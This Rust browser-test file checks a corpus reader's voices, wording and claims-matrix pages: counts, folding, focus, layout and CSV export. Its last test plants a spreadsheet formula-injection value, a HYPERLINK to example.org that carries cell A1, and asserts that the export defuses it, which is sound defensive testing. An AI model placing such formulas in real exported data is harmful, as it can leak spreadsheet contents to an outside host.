//! Pages about the whole set: who speaks, what words do, who says which claim. Their tables, pictures and ways to the passages.

use diptych_browser_tests::reader::with_reader_at;
use diptych_browser_tests::{Host, corpora, with_reader};
use diptych_corpus::vocabulary::EvidenceRelation;
use diptych_engine::annotation::seal_pack;

/// Keeps the text of what the page saves.
const KEEP_SAVED: &str = "const address = URL.createObjectURL; \
    URL.createObjectURL = (file) => (file.text().then((text) => (globalThis.saved = text)), address(file))";

/// Whether all of the matrix is drawn.
const DRAWN: &str =
    "return document.querySelector('table.coverage') && !document.querySelector('.overview[aria-busy]')";

#[tokio::test]
async fn voices_count_the_words_of_every_text_and_lead_to_them() {
    with_reader(async |reader| {
        reader.resize(1440, 900).await;
        reader.open("#/voices").await;
        reader.until_shown("#voices-texts").await;
        let rows = reader.count("#voices-texts tbody tr").await;
        assert_eq!(rows, 16);
        let pictured = reader.count("section:has(#voices-texts) .picture > g").await;
        assert_eq!(pictured, rows, "the picture has a bar for each row of its twin");
        // Writer, quoted and reported words are all words.
        let sums = "return [...document.querySelectorAll('#voices-texts tbody tr')].every((row) => { \
            const [all, own, direct, reported] = [...row.querySelectorAll('td')].map((cell) => Number(cell.textContent.replaceAll(/\\D/g, ''))); \
            return all === own + direct + reported })";
        assert!(reader.holds(sums, Vec::new()).await);
        reader.click_on("#voices-speakers tbody tr:first-child summary").await;
        reader.until_shown("#voices-speakers tbody tr:first-child details a").await;
        reader.click_on("#voices-speakers tbody tr:first-child details a").await;
        reader.until_shown("[data-paragraph] [data-kind=linked]").await;
        assert!(reader.route().await.contains("lens=voices"), "{}", reader.route().await);
        reader.assert_quiet().await;
    })
    .await;
}

#[tokio::test]
async fn one_text_alone_has_an_address_of_its_own() {
    with_reader(async |reader| {
        reader.open("#/voices?of=azernews-2020-10-06").await;
        reader.until_text("Only AzerNews, 6 October 2020.").await;
        assert_eq!(reader.count("#voices-texts tbody tr").await, 1);
        reader.click_link("Show all texts").await;
        reader.until_count("#voices-texts tbody tr", 16).await;
        reader.back().await;
        reader.until_count("#voices-texts tbody tr", 1).await;
    })
    .await;
}

#[tokio::test]
async fn arrow_keys_lead_along_a_picture() {
    with_reader(async |reader| {
        reader.open("#/voices").await;
        reader.until_shown(".picture a").await;
        reader.script("document.querySelector('.picture a').focus()", Vec::new()).await;
        reader.press(thirtyfour::Key::Down).await;
        reader
            .until(
                "the second bar has the focus",
                "return [...document.querySelectorAll('.picture a')].indexOf(document.activeElement) === 1",
            )
            .await;
        reader.press(thirtyfour::Key::Tab).await;
        reader.until("Tab leaves the picture", "return !document.activeElement.closest('svg')").await;
    })
    .await;
}

#[tokio::test]
async fn wording_keeps_the_writer_apart_from_those_quoted_and_can_be_put_aside() {
    with_reader(async |reader| {
        reader.resize(1440, 900).await;
        reader.open("#/wording").await;
        reader.until_shown("#wording-terms").await;
        let told = reader.contents("#wording-texts tbody tr:has(a[href*='azvision']) td").await;
        assert!(told.iter().any(|it| it.contains("quoted")), "{told:?}");
        reader.click_on("#wording-terms tbody tr:first-child summary").await;
        reader.until_shown("#wording-terms tbody tr:first-child li").await;
        let before = reader.count("#wording-terms tbody tr:first-child li:not([hidden])").await;
        reader.click_on("#wording-terms tbody tr:first-child [data-dismisses]").await;
        reader.until_shown("[data-restores]").await;
        reader.reload().await;
        reader.until_shown("#wording-terms").await;
        reader.click_on("#wording-terms tbody tr:first-child summary").await;
        reader.until_shown("[data-restores]").await;
        assert_eq!(reader.count("#wording-terms tbody tr:first-child li:not([hidden])").await, before - 1);
        let sources = "const rows = [...document.querySelectorAll('#wording-sources tbody tr')]; return rows.length === 16 && rows.every((row) => { \
            const [all, ...kinds] = [...row.querySelectorAll('td')].map((cell) => Number(cell.textContent.replaceAll(/\\D/g, ''))); \
            return all === kinds.reduce((sum, it) => sum + it, 0) })";
        assert!(reader.holds(sources, Vec::new()).await, "every sentence has one kind of source or none");
    })
    .await;
}

#[tokio::test]
async fn topics_of_the_matrix_fold_to_their_sums() {
    with_reader(async |reader| {
        reader.resize(1440, 900).await;
        reader.open("#/claims").await;
        reader.until_shown("table.coverage").await;
        let rows = "table.coverage tbody:nth-of-type(1) tr:not(.coverage__topic):not([hidden])";
        assert!(reader.count(rows).await > 0);
        reader.click_on("table.coverage tbody:nth-of-type(1) [data-folds]").await;
        reader.until_count(rows, 0).await;
        let sums = reader.contents("table.coverage tbody:nth-of-type(1) .coverage__topic td").await;
        assert!(sums.iter().any(|it| it.contains("said")), "{sums:?}");
        reader.click_button("Fold all topics").await;
        reader.until_count("table.coverage tbody tr:not(.coverage__topic):not([hidden])", 0).await;
        reader.click_button("Unfold all topics").await;
        reader
            .until_count(
                "table.coverage tbody tr:not([hidden])",
                reader.count("table.coverage tbody tr").await as usize,
            )
            .await;
    })
    .await;
}

#[tokio::test]
async fn a_topic_stays_as_the_reader_turned_it_when_other_claims_are_listed() {
    let corpus = corpora::own();
    let is_challenged = |topic: &String| {
        let mut claims = corpus.claims.iter().filter(|claim| claim.topic == *topic);
        claims.any(|claim| claim.evidence.iter().any(|it| it.relation == EvidenceRelation::Challenges))
    };
    let host = Host::start();
    host.add("large.pack", corpora::manifold());
    with_reader_at(host, async |reader| {
        reader.resize(1440, 900).await;
        // The small matrix begins unfolded, the large one folded.
        for (route, turned) in [("#/claims", "false"), ("#/claims?corpus=large.pack", "true")] {
            reader.open(route).await;
            reader.until("the matrix is drawn", DRAWN).await;
            let topics = reader.attributes("[data-folds]", "data-folds").await;
            let topic = topics.into_iter().rfind(is_challenged).unwrap();
            reader.click_on(&format!("[data-folds='{topic}']")).await;
            let n_topics = reader.count("table.coverage tbody").await;
            reader.choose("With evidence that", "Challenges").await;
            let fewer = format!("return document.querySelectorAll('table.coverage tbody').length < {n_topics}");
            reader.until("other claims are listed", &fewer).await;
            reader.until("the matrix is drawn again", DRAWN).await;
            assert_eq!(
                reader.attributes(&format!("[data-folds='{topic}']"), "aria-expanded").await,
                [turned],
                "{topic}"
            );
            let shown = format!("tbody:has([data-folds='{topic}']) tr:not(.coverage__topic):not([hidden])");
            assert_eq!(reader.count(&shown).await > 0, turned == "true");
        }
    })
    .await;
}

#[tokio::test]
async fn tab_stops_at_a_table_where_there_is_more_of_it_than_its_window_shows() {
    with_reader(async |reader| {
        for (width, stops) in [(390, "true"), (1440, "false")] {
            reader.resize(width, 900).await;
            reader.open("#/voices").await;
            reader.until_shown("#voices-texts").await;
            let stop = format!(
                "return ([...document.querySelectorAll('.overview__scroll')].some((it) => it.tabIndex === 0)) === {stops}"
            );
            reader.until(&format!("{width} pixels"), &stop).await;
        }
    })
    .await;
}

#[tokio::test]
async fn dates_and_lengths_under_the_matrix_stay_in_their_columns() {
    with_reader(async |reader| {
        for width in [390, 1440] {
            reader.resize(width, 900).await;
            reader.open("#/claims").await;
            reader.until_shown("table.coverage tfoot td").await;
            let cells = "const range = document.createRange(); return [...document.querySelectorAll('table.coverage tfoot td')].every((cell) => { \
                range.selectNodeContents(cell); return range.getBoundingClientRect().width <= cell.getBoundingClientRect().width })";
            assert!(reader.holds(cells, Vec::new()).await, "{width} pixels");
        }
    })
    .await;
}

#[tokio::test]
async fn topics_of_a_large_matrix_begin_folded_and_are_drawn_when_they_unfold() {
    let host = Host::start();
    host.add("large.pack", corpora::manifold());
    with_reader_at(host, async |reader| {
        reader.resize(1440, 900).await;
        reader.open("#/claims?corpus=large.pack").await;
        reader.until("the matrix is drawn", DRAWN).await;
        let rows = "table.coverage tbody tr:not(.coverage__topic)";
        assert_eq!(reader.count(rows).await, 0, "rows that nobody sees");
        assert!(reader.count("table.coverage .coverage__topic td").await > 60, "each topic is summed up");
        reader.click_on("table.coverage tbody:nth-of-type(1) [data-folds]").await;
        reader.until_shown("table.coverage tbody:nth-of-type(1) tr:not(.coverage__topic)").await;
        let n_unfolded = reader.count(rows).await;
        reader.click_on("table.coverage tbody:nth-of-type(1) [data-folds]").await;
        reader.until_count(&format!("{rows}:not([hidden])"), 0).await;
        reader.script(KEEP_SAVED, Vec::new()).await;
        reader.click_button("Save as CSV").await;
        let saved = "const topics = document.querySelectorAll('.coverage__topic').length; \
            return globalThis.saved?.trim().split(/\\r\\n/).length === 90 + topics + document.querySelectorAll('.coverage :is(thead, tfoot) tr').length";
        reader.until("folded rows are saved as well", saved).await;
        assert_eq!(reader.count(&format!("{rows}:not([hidden])")).await, 0, "saving unfolds nothing");
        reader.click_button("Unfold all topics").await;
        reader.until_count(&format!("{rows}:not([hidden])"), 90).await;
        assert!(n_unfolded < 90);
    })
    .await;
}

#[tokio::test]
async fn texts_that_say_a_claim_in_the_same_words_are_one_voice() {
    with_reader(async |reader| {
        reader.open("#/claims").await;
        reader.until_shown("table.coverage").await;
        let told = reader.contents(".coverage__voices").await;
        assert!(told.iter().any(|it| it.contains("2 texts with the same words: 1 voice.")), "{told:?}");
    })
    .await;
}

#[tokio::test]
async fn the_matrix_is_saved_with_the_words_behind_its_signs() {
    with_reader(async |reader| {
        reader.open("#/claims").await;
        reader.until_shown("table.coverage").await;
        reader.script("window.saved = undefined; URL.createObjectURL = (blob) => { blob.text().then((text) => (window.saved = text)); return '#/claims'; }", Vec::new()).await;
        reader.click_on("[data-saves=coverage]").await;
        reader.until("the table is saved", "return window.saved !== undefined").await;
        let saved = reader.script("return window.saved", Vec::new()).await;
        let saved = saved.as_str().unwrap();
        assert!(saved.lines().count() > 90, "{}", saved.lines().count());
        assert!(saved.contains("says it, disputed") && saved.contains("nothing linked"), "{}", &saved[..400]);
    })
    .await;
}

#[tokio::test]
async fn long_tables_are_drawn_whole_wherever_they_stand() {
    let compose = "const rows = Array.from({ length: 900 }, (_, n) => ['tr', {}, ['td', {}, String(n)], ['td', {}, 'a'], ['td', {}, 'b']]); \
        const table = (id) => ['table', { id }, ['tbody', {}, ...rows]]; \
        const nodes = [table('open'), ['details', { id: 'fold' }, ['summary', {}, 'More'], table('folded')], ['section', {}, table('later')]]; \
        const host = document.querySelector('main').appendChild(document.createElement('div')); host.className = 'overview'; \
        diptychOverview.compose(host, 'long', async () => JSON.stringify(nodes), () => {}); return true";
    with_reader(async |reader| {
        reader.open("#/about").await;
        reader.script(compose, Vec::new()).await;
        reader.until_shown("#fold summary").await;
        reader.click_on("#fold summary").await;
        for table in ["#open tr", "#folded tr", "#later tr"] {
            reader.until_count(table, 900).await;
        }
    })
    .await;
}

#[tokio::test]
async fn m5_a_saved_table_holds_nothing_that_a_spreadsheet_would_run() {
    let mut corpus = corpora::town();
    corpus.claims[0].text = "=HYPERLINK(\"https://example.org/?x=\"&A1,\"open\")".to_owned();
    let host = Host::start();
    host.add("formulas.pack", seal_pack(corpus).expect("a corpus of the same size"));
    with_reader_at(host, async |reader| {
        reader.open("#/claims?corpus=formulas.pack").await;
        reader.until("the matrix is drawn", DRAWN).await;
        reader.script(KEEP_SAVED, Vec::new()).await;
        reader.click_button("Save as CSV").await;
        reader.until("the table is saved", "return globalThis.saved !== undefined").await;
        let guarded = "return globalThis.saved.includes(`\"'=HYPERLINK(\"\"https://example.org/`)";
        assert_eq!(reader.script(guarded, Vec::new()).await, serde_json::json!(true));
    })
    .await;
}
